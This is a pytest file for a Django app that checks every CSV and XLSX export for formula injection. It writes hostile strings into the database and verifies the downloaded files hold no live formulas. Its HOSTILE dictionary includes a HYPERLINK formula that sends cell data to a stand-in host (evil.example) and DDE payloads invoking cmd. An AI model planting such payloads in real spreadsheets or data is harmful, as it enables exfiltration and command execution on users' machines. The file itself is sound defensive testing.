"""Every CSV and XLSX file the product writes, downloaded with hostile text in the data: no cell is a formula.

``EXPORTS`` lists each export view with the downloads the walk makes. ``test_every_export_is_walked`` finds the
export views on its own — every URL pattern whose route ends in .csv or .xlsx or takes a format, and every view
whose code speaks of CSV, Excel or spreadsheets — and fails for one it does not know, so the next export cannot
slip past the walk; ``test_only_the_spreadsheet_module_writes_spreadsheets`` fails for a ``csv.writer`` or an
openpyxl ``Workbook`` made anywhere but ``core/spreadsheet.py``, which puts every cell through ``safe_cell``.

The hostile strings are those of OWASP's CSV-injection page and what a spreadsheet skips before "=": a formula
with a link that sends a cell away, DDE commands behind +, @ and -, a tab, a space, a no-break space, the
full-width equals sign and the pipe. They are written straight into the database (as an import, the API or an
older version could have): names of networks, trusts, hospitals, units, people, tasks and topics; titles of
cases, action items and events; comments of registrations and capacity entries; the reason of a change.
"""

import csv
import inspect
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from fagnett.accounts.models import User
from fagnett.capacity.tests.factories import make_entry, make_round, units_of
from fagnett.cases.tests.factories import make_case
from fagnett.core.history import acting_as
from fagnett.events.models import Audience
from fagnett.events.tests.factories import make_event, register
from fagnett.meetings.models import ActionItem
from fagnett.networks.models import Network, TaskListItem
from fagnett.organisations.models import HealthTrust, Hospital, Unit
from fagnett.topics.models import Topic
from tests.downloads import made
from tests.factories import World
from tests.permissions.crawler import Pattern, skip_reason, walk

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent

HOSTILE = {
    "link": '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "space": " =1+1",
    "no-break space": "\u00a0=1+1",
    "full-width": "\uff1d1+1",
    "pipe": "|calc",
    "comma": "Testesen;=1+1",  # one field: the separator inside it must not start another
}


#: The test's own idea of a formula (not the product's ``needs_quote``): what a spreadsheet evaluates, after the blanks
#: and invisible marks it may skip; and a tab, carriage return or line feed first.
_FORMULA = re.compile(r"^[\s\u00ad\u200b-\u200f\u2060\ufeff]*[=+\-@|\uff1d\uff0b\uff0d\uff20\uff5c]|^[\t\r\n]")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def needs_quote(text: str) -> bool:
    return bool(_FORMULA.match(text))


@dataclass(frozen=True)
class Download:
    label: str
    role: str
    url: Callable[[dict[str, Any]], str]
    kind: str  # "csv", "xlsx" or "zip" (of CSV files)
    job: bool = False  # made by a background job: POST, then the file the job made (tests/downloads.py)


#: Every export view and the downloads the walk makes of it (as the person who may download it).
EXPORTS: dict[str, list[Download]] = {
    "audit:region_log_export": [
        Download(fmt, "coordinator", lambda w, fmt=fmt: f"/regions/{w['region']}/audit/export.{fmt}", fmt, job=True)
        for fmt in ("csv", "xlsx")
    ],
    "events:registrations_export": [
        Download(
            fmt,
            "coordinator",
            lambda w, fmt=fmt: reverse("events:registrations_export", args=[w["event"], fmt]),
            fmt,
        )
        for fmt in ("csv", "xlsx")
    ],
    # The network's follow-up register, as a member of the network reads it (a hostile owner and action).
    "meetings:followup_export": [
        Download(fmt, "member", lambda w, fmt=fmt: reverse("meetings:followup_export", args=[w["network"], fmt]), fmt)
        for fmt in ("csv", "xlsx")
    ],
    "reports:figure_csv": [
        Download(
            f"figure {n}",
            "coordinator",
            lambda w, n=n: reverse("reports:figure_csv", args=[w["region"], w["year"], n]),
            "csv",
        )
        for n in (1, 2, 3)
    ],
    "reports:figures_xlsx": [
        Download(
            "xlsx", "coordinator", lambda w: reverse("reports:figures_xlsx", args=[w["region"], w["year"]]), "xlsx"
        )
    ],
    "capacity:excel_template": [
        Download("xlsx", "reporter", lambda w: reverse("capacity:excel_template", args=[w["round"]]), "xlsx")
    ],
    "capacity:export": [
        Download(fmt, "coordinator", lambda w, fmt=fmt: reverse("capacity:export", args=[w["round"], fmt]), fmt)
        for fmt in ("csv", "xlsx")
    ],
    # The templates offer the region's trusts and networks in their drop-downs (the organisation's template holds
    # nothing of the region: its drop-downs offer its own sheet of trusts).
    "onboarding:template": [
        Download(
            kind, "coordinator", lambda w, kind=kind: reverse("onboarding:template", args=[w["region"], kind]), "xlsx"
        )
        for kind in ("people", "networks", "history")
    ],
    # The region's export: a ZIP whose every CSV file is read.
    "onboarding:export": [
        Download("zip", "coordinator", lambda w: reverse("onboarding:export", args=[w["region"]]), "zip")
    ],
}

#: Views that take a format or are named like an export but write no spreadsheet, and what they write instead.
NOT_SPREADSHEETS = {
    "meetings:export": "the invitation as ICS, PDF or DOCX",
    "meetings:minutes_export": "minutes as PDF or DOCX",
    "capacity:recommendation": "the recommendation as PDF or DOCX",
    "capacity:recommendation_sent": "the recommendation's PDF or DOCX kept as it was sent",
    "reports:network_report_export": "a network's own annual report as PDF or DOCX",
    "capacity:excel_upload": "reads a filled-in template (the import)",
}

_EXPORT_ROUTE = re.compile(r"\.(csv|xlsx|xls|ods|tsv)\b|<(str:)?fmt>|<(str:)?format>")
_SPREADSHEET_WORDS = re.compile(
    r"(?<![a-z])(csv|tsv|xlsx?|ods|spreadsheet|workbook|openpyxl|excel)(?![a-z])", re.IGNORECASE
)


def _view_source(pattern: Pattern) -> str:
    try:
        return inspect.getsource(inspect.unwrap(pattern.callback))
    except (OSError, TypeError):  # a callable made at run time (django-ninja's operations): no source to read
        return ""


def _found_exports() -> dict[str, str]:
    """Every view that looks like it writes a spreadsheet, with why it was picked."""
    found = {}
    for pattern in walk():
        if skip_reason(pattern):
            continue
        if _EXPORT_ROUTE.search(pattern.route):
            found[pattern.name] = f"its route {pattern.route}"
        elif words := _SPREADSHEET_WORDS.findall(_view_source(pattern)):
            found[pattern.name] = f"its code names {sorted(set(words))}"
    return found


def test_every_export_is_walked() -> None:
    found = _found_exports()
    unknown = {name: why for name, why in found.items() if name not in EXPORTS and name not in NOT_SPREADSHEETS}
    assert not unknown, f"export views the walk does not know (add them to EXPORTS with hostile data): {unknown}"
    assert set(EXPORTS) <= set(found), f"EXPORTS lists views the scan does not find: {set(EXPORTS) - set(found)}"
    # A view listed as writing no spreadsheet must not start to write one.
    for name in NOT_SPREADSHEETS:
        pattern = next(p for p in walk() if p.name == name)
        source = _view_source(pattern)
        assert not re.search(r"write_(csv|xlsx)|openpyxl|csv\.writer|Workbook\(", source), f"{name} now writes one"


def test_only_the_spreadsheet_module_writes_spreadsheets() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\.writerows?\(|text/csv|spreadsheetml\.sheet")
    allowed = {
        "fagnett/core/spreadsheet.py",  # the one writer
        "fagnett/core/uploads.py",  # the upload checker's list of accepted types (reading)
        "fagnett/core/testing_files.py",  # real files the tests upload, to test the readers
    }
    offenders = []
    for path in sorted((ROOT / "fagnett").rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in relative or relative in allowed:
            continue
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if writers.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, "spreadsheets written outside core/spreadsheet.py:\n" + "\n".join(offenders)


# --- The world, made hostile ---------------------------------------------------------------------------------------


@pytest.fixture
def hostile(world: World) -> dict[str, Any]:
    """The test world with hostile text in everything an export shows; the ids the downloads need."""
    User.objects.update(language="en")
    Network.objects.filter(pk=world.network.pk).update(name=HOSTILE["link"])
    Network.objects.filter(pk=world.other_network.pk).update(name=HOSTILE["full-width"])
    trust = world.trusts_a[0]
    HealthTrust.objects.filter(pk=trust.pk).update(name=HOSTILE["dde"])
    Hospital.objects.filter(trust=trust).update(name=HOSTILE["no-break space"])
    Unit.objects.filter(hospital__trust=trust).update(name=HOSTILE["space"])
    User.objects.filter(pk=world["member"].pk).update(
        first_name=HOSTILE["at"], last_name=HOSTILE["minus"], title=HOSTILE["tab"]
    )
    User.objects.filter(pk=world["leader"].pk).update(first_name=HOSTILE["pipe"], last_name=HOSTILE["comma"])
    TaskListItem.objects.filter(pk=world.tasks[0].pk).update(code="=1+1", title=HOSTILE["minus"])
    TaskListItem.objects.filter(pk=world.tasks[1].pk).update(title=HOSTILE["link"])
    for role in ("member", "leader"):
        world[role].refresh_from_db()

    with acting_as(world["member"]):
        case = make_case(world, title=HOSTILE["link"])
        case.title = HOSTILE["at"]
        case._change_reason = HOSTILE["minus"]  # type: ignore[attr-defined]
        case.save()
        ActionItem.objects.create(
            network=world.network, title=HOSTILE["dde"], owner=world["member"], due_date=timezone.localdate()
        )
    topic = Topic.objects.create(region=world.region_a, name=HOSTILE["pipe"])
    topic.cases.add(case)

    event = make_event(world, title=HOSTILE["link"], audience=Audience.EVERYONE)
    register(event, world["member"], network=world.network, comment=HOSTILE["tab"])
    register(event, world["leader"], network=world.network, comment=HOSTILE["space"])

    round_ = make_round(world.region_a)
    unit = units_of(world)[0]
    make_entry(round_, unit, "K3", "normal", comment=HOSTILE["minus"])
    make_entry(round_, unit, "K2", "normal", comment=HOSTILE["full-width"])
    make_entry(round_, unit, "K1", "normal", comment=HOSTILE["link"])
    return {
        "region": world.region_a.pk,
        "network": world.network.pk,
        "year": timezone.localdate().year,
        "event": event.pk,
        "round": round_.pk,
    }


# --- Reading the files back ----------------------------------------------------------------------------------------


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]


def _xlsx_problems(content: bytes) -> tuple[list[str], list[str]]:
    """(problems, the texts that came out quoted): formulas in the package XML or in any cell, text that would
    start one without an apostrophe or a quote prefix."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", package.read(name)):
                problems.append(f"{name} holds a formula element")
    quoted = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str):
                    if cell.quotePrefix:
                        quoted.append(cell.value)
                    elif needs_quote(cell.value):
                        problems.append(f"{sheet.title}!{cell.coordinate} starts a formula: {cell.value!r}")
                    elif cell.value.startswith("'") and needs_quote(cell.value[1:]):
                        quoted.append(cell.value[1:])
    return problems, quoted


def _walk(client: Client, download: Download, ids: dict[str, Any]) -> tuple[list[str], list[str]]:
    response = made(client, download.url(ids)) if download.job else client.get(download.url(ids))
    assert response.status_code == 200, f"{download.label}: HTTP {response.status_code}"
    assert response["Content-Disposition"].startswith("attachment;")
    if download.kind == "zip":
        assert response["Content-Type"] == "application/zip"
        content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            names = [name for name in package.namelist() if name.endswith(".csv")]
            assert names, f"{download.label}: no CSV file in the ZIP"
            cells = [(name, cell) for name in names for cell in _csv_cells(package.read(name))]
        problems = [f"{name}: field starts a formula: {cell!r}" for name, cell in cells if needs_quote(cell)]
        quoted = [cell[1:] for _name, cell in cells if cell.startswith("'") and needs_quote(cell[1:])]
        return problems, quoted
    if download.kind == "csv":
        assert response["Content-Type"] == CSV_CONTENT_TYPE
        cells = _csv_cells(response.content)
        problems = [f"field starts a formula: {cell!r}" for cell in cells if needs_quote(cell)]
        quoted = [cell[1:] for cell in cells if cell.startswith("'") and needs_quote(cell[1:])]
        return problems, quoted
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return _xlsx_problems(response.content)


@pytest.mark.parametrize(
    ("view", "index"), [(view, index) for view, downloads in EXPORTS.items() for index in range(len(downloads))]
)
def test_no_export_writes_a_formula(
    world: World, client: Client, hostile: dict[str, Any], view: str, index: int
) -> None:
    download = EXPORTS[view][index]
    client.force_login(world[download.role])
    problems, quoted = _walk(client, download, hostile)
    assert not problems, f"{view} {download.label}:\n" + "\n".join(problems)
    # The hostile text did reach the file (a walk over files without it would prove nothing), as text.
    reached = set(quoted) & {*HOSTILE.values(), "=1+1"}
    assert reached, f"{view} {download.label}: none of the hostile texts is in the file"
